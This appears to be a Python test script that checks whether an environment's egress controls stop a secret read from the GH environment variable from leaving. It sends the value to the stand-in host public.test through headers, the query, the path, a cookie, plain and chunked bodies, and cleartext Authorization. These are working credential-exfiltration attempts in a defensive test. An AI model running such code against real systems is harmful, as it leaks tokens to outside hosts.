key = os.environ.get("GH", "no placeholder")


def post(body, framing):
    connection = secure(tunnel("public.test:443"), "public.test")
    if isinstance(connection, str):
        return connection
    connection.sendall(b"POST /echo HTTP/1.1\r\nHost: public.test\r\nConnection: close\r\n" + framing + b"\r\n" + body)
    return word(everything(connection))


def ask(path="/echo", more=""):
    return inside("public.test:443", "public.test", "public.test", path, more)


sent = key.encode()
attempt("another header", "sealed-place", lambda: ask(more=f"X-Key: {key}\r\n"))
attempt("the query", "sealed-place", lambda: ask(f"/echo?key={key.replace(' ', '+')}"))
attempt("the path", "sealed-place", lambda: ask(f"/{key.replace(' ', '+')}"))
attempt("a cookie", "sealed-place", lambda: ask(more=f"Cookie: key={key}\r\n"))
attempt("a body", "sealed-place", lambda: post(sent, b"Content-Length: %d\r\n" % len(sent)))
attempt("a body in chunks", "sealed-place", lambda: post(
    b"".join(b"1\r\n" + bytes([byte]) + b"\r\n" for byte in sent) + b"0\r\n\r\n", b"Transfer-Encoding: chunked\r\n"))
attempt("the clear", "sealed-place", lambda: get("http://public.test/knows", more=f"Authorization: {key}\r\n"))
verdict()
